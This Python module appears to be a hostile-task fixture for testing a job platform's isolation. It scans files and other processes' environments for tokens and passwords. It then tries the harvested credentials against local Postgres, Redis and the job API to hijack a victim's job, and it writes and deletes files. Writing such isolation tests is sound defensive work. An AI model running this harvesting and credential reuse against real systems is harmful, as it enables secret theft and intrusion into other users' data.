"""A hostile researcher's classical step: everything it can find, read, reach or break.

It never raises: it records each attempt and its outcome and returns the report as its
output (also printed, so that the captured stdout holds it too). The tests decide what
counts as a leak; this program only tries hard.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
from typing import Any

TOKEN = re.compile(r"qcb_[A-Za-z0-9_\-]{20,}")
SECRET_LIKE = re.compile(
    r"qcbsecret-[0-9a-f]{32}|planted-[a-z-]+-[0-9a-f]{32}|qcb_[A-Za-z0-9_\-]{20,}"
    r"|eyJ[A-Za-z0-9_\-]+\.[A-Za-z0-9_\-]+\.[A-Za-z0-9_\-]+"
)
URL_PASSWORD = re.compile(r"://[^:/@\s]*:([^@\s]+)@")
REQUIREPASS = re.compile(r"requirepass\s+(\S+)")
SKIP_DIRS = {".venv", ".git", "site-packages", "node_modules", "__pycache__", ".mypy_cache"}
MAX_FILES = 20_000
MAX_READ = 256 << 10


def _read(path: str) -> str | None:
    try:
        with open(path, "rb") as handle:
            return handle.read(MAX_READ).decode(errors="replace")
    except OSError:
        return None


def _scan(roots: list[str], report: dict[str, Any]) -> list[str]:
    """Walk ``roots``; return the text of every file this account may read."""
    texts: list[str] = []
    seen = 0
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in SKIP_DIRS]
            for name in files:
                seen += 1
                if seen > MAX_FILES:
                    return texts
                path = os.path.join(folder, name)
                if os.path.islink(path) or not os.path.isfile(path):
                    continue
                text = _read(path)
                if text is not None:
                    texts.append(text)
                    if TOKEN.search(text) or URL_PASSWORD.search(text):
                        report["suspicious_files"].append(path)
    return texts


def _proc(report: dict[str, Any]) -> list[str]:
    """Other processes' environments (and command lines, which every account may read)."""
    texts: list[str] = []
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        environ = _read(f"/proc/{pid}/environ")
        if environ is not None:
            try:
                owner = os.stat(f"/proc/{pid}").st_uid
            except OSError:
                continue
            if owner != os.getuid():
                report["foreign_environ"].append(int(pid))
            texts.append(environ.replace("\0", "\n"))
        cmdline = _read(f"/proc/{pid}/cmdline")
        if cmdline:
            texts.append(cmdline.replace("\0", " "))
    return texts


def _candidates(texts: list[str]) -> list[str]:
    found: list[str] = []
    for text in texts:
        for pattern in (TOKEN, URL_PASSWORD, REQUIREPASS):
            for match in pattern.finditer(text):
                value = match.group(1) if match.groups() else match.group(0)
                if value not in found:
                    found.append(value)
    return found[:40]


def _try_postgres(port: int, users: list[str], passwords: list[str | None]) -> list[str]:
    import psycopg

    wins = []
    for user in users:
        for password in passwords:
            try:
                with psycopg.connect(
                    host="127.0.0.1", port=port, user=user, password=password,
                    dbname="postgres", connect_timeout=3,
                ) as conn:  # fmt: skip
                    names = conn.execute("SELECT datname FROM pg_database").fetchall()
                    wins.append(f"{user}: {names}")
            except Exception:
                continue
    return wins


def _redis(port: int, command: bytes) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as conn:
            conn.sendall(command)
            return conn.recv(200).decode(errors="replace").strip()
    except OSError as exc:
        return f"error: {exc}"


def _try_redis(port: int, passwords: list[str]) -> list[str]:
    answers = [_redis(port, b"PING\r\n")]
    for password in passwords:
        answer = _redis(port, f"AUTH {password}\r\n".encode())
        if answer.startswith("+OK"):
            answers.append(f"AUTH accepted: {password}")
    return answers


def _try_api(url: str, job: str, tokens: list[str]) -> list[str]:
    import httpx

    wins = []
    circuit = "OPENQASM 3.0;\nqubit[1] q;\nbit[1] c;\nc[0] = measure q[0];\n"
    batch = {"items": [{"circuit": circuit}], "shots": 10}
    for token in tokens:
        headers = {"Authorization": f"Bearer {token}"}
        try:
            answer = httpx.post(
                f"{url}/v1/jobs/{job}/tasks", json={"batch": batch}, headers=headers, timeout=10
            )
        except httpx.HTTPError:
            continue
        if answer.status_code < 300:
            wins.append(f"added a task to {job} with a found token")
    return wins


def hunt(payload: dict[str, Any]) -> dict[str, Any]:
    """Try everything in ``payload``; the report of what worked."""
    report: dict[str, Any] = {
        "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "groups": os.getgroups(),
        "env": dict(os.environ), "read": {}, "listed": {}, "wrote": [], "removed": [],
        "suspicious_files": [], "foreign_environ": [], "postgres": [], "redis": [], "api": [],
        "slurm_job": os.environ.get("SLURM_JOB_ID"), "cwd": os.getcwd(),
    }  # fmt: skip
    texts = [json.dumps(report["env"])]
    for path in payload.get("read", []):
        text = _read(path)
        if text is not None:
            report["read"][path] = text[:4000]
            texts.append(text)
    for folder in payload.get("list", []):
        with contextlib.suppress(OSError):
            report["listed"][folder] = sorted(os.listdir(folder))[:200]
    texts += _scan(payload.get("scan", []), report)
    texts += _proc(report)
    candidates = _candidates(texts)
    report["candidates"] = candidates
    found = {m for text in texts for m in SECRET_LIKE.findall(text)}
    report["found"] = sorted(found)[:500]
    if payload.get("postgres_port"):
        users = ["postgres", "qcb_admin", "qcb", "root", *payload.get("postgres_users", [])]
        report["postgres"] = _try_postgres(payload["postgres_port"], users, [None, *candidates])
    if payload.get("redis_port"):
        report["redis"] = _try_redis(payload["redis_port"], candidates)
    if payload.get("api"):
        tokens = [c for c in candidates if c.startswith("qcb_")]
        report["api"] = _try_api(payload["api"], payload["victim_job"], tokens)
    for path in payload.get("write", []):
        try:
            with open(path, "w") as handle:
                handle.write("planted by a hostile task\n")
            report["wrote"].append(path)
        except OSError:
            pass
    for path in payload.get("remove", []):
        try:
            os.remove(path)
            report["removed"].append(path)
        except OSError:
            pass
    print(json.dumps(report))
    return report
